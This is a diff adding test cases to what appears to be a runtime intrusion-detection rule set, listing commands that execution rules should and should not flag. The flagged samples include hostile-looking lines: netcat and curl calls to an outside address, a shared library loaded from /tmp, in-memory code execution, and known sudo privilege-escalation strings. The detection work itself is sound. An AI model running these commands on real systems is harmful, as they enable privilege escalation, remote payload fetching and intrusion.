@@ -116,4 +116,79 @@ export const execution: Triggers = {
     ],
     misses: ['curl --unix-socket /run/app.sock http://x/', 'curl https://192.0.2.7:10250/healthz'],
   },
+  'execution/python-text': {
+    hits: [['python3', '-c', 'print(1)'], 'python3 -u /tmp/x.py', 'python3.13 /dev/shm/a.pyc'],
+    misses: ['python3 /usr/lib/a/main.py', 'python3 -m venv x'],
+  },
+  'execution/javascript-text': {
+    hits: [['node', '-e', '1'], 'deno run /tmp/x.js'],
+    misses: ['node server.js', 'node --experimental-vm-modules x'],
+  },
+  'execution/interpreter-text': {
+    hits: [['perl', '-e', 'system("id")'], ['php', '-r', 'echo 1;'], 'ruby /tmp/x.rb'],
+    misses: [['perl', '-pe', 's/a/b/'], 'php index.php'],
+  },
+  'execution/lua-text': {
+    hits: [['lua5.4', '-e', 'os.execute("id")'], 'luajit /tmp/x.lua'],
+    misses: ['lua /usr/share/lua/x.lua'],
+  },
+  'execution/script-from-writable-folder': {
+    hits: ['sh /tmp/x.sh', 'bash -x /dev/shm/a', ['bash', '-c', '. /var/tmp/x']],
+    misses: ['sh /usr/bin/x.sh', 'sh -e /opt/x'],
+  },
+  'execution/program-from-writable-folder': {
+    hits: [
+      { at: '/tmp/rules-x5/run', run: ['x', '-a'] },
+      { at: '/dev/shm/rules-x5', run: ['x'] },
+    ],
+    misses: [{ at: '/tmp/go-build-rules-x7/x', run: ['x'] }],
+  },
+  'execution/shell-of-busybox': {
+    hits: [['busybox', 'sh', '-c', 'id'], 'busybox nc 192.0.2.7 80'],
+    misses: ['busybox ls /', 'busybox --install /bin'],
+  },
+  'execution/shells-listed': {
+    hits: ['cat /etc/shells', 'chsh -s /bin/zsh a', 'usermod --shell /bin/bash daemon'],
+    misses: ['chsh --help', 'usermod -s /usr/sbin/nologin a'],
+  },
+  'execution/service-started': {
+    hits: ['systemctl start x', 'service x restart', 'systemctl daemon-reload'],
+    misses: ['systemctl status x', 'service x status'],
+  },
+  'execution/library-of-attacker': {
+    hits: [
+      ['python3', '-c', 'import ctypes; ctypes.CDLL("/tmp/x.so")'],
+      ['perl', '-e', 'syscall(319, "x", 1)'],
+    ],
+    misses: [['python3', '-c', 'import os']],
+  },
+  'execution/code-in-memory': {
+    hits: [
+      ['python3', '-c', 'import ctypes,mmap; m=mmap.mmap(-1,9,prot=7); ctypes.CFUNCTYPE(None)(1)'],
+    ],
+    misses: [['python3', '-c', 'import mmap']],
+  },
+  'execution/workload-created': {
+    hits: ['kubectl create -f x.yaml', 'kubectl get cronjobs -A', 'helm install x y'],
+    misses: ['kubectl get pods', 'helm list'],
+  },
+  'execution/known-exploit-of-sudo': {
+    hits: [
+      ['sudo', '-u#-1', 'id'],
+      ['sudoedit', '-s', 'AAAA\\'],
+      ['unshare', '-rm', 'sh', '-c', 'mount -t overlay x y'],
+    ],
+    misses: ['sudo -u ann id', 'sudoedit /etc/hosts'],
+  },
+  'execution/application-server-shell': {
+    hits: [{ under: 'java', run: ['sh', '-c', 'whoami; curl http://192.0.2.7/x'] }],
+    misses: [
+      { under: 'java', run: ['sh', '-c', 'make all'] },
+      { under: 'bash', run: ['sh', '-c', 'whoami'] },
+    ],
+  },
+  'execution/package-script-downloads': {
+    hits: [{ under: 'npm', run: ['sh', '-c', 'curl -s http://192.0.2.7/x -o x'] }],
+    misses: [{ under: 'npm', run: ['sh', '-c', 'node build.js'] }],
+  },
 }
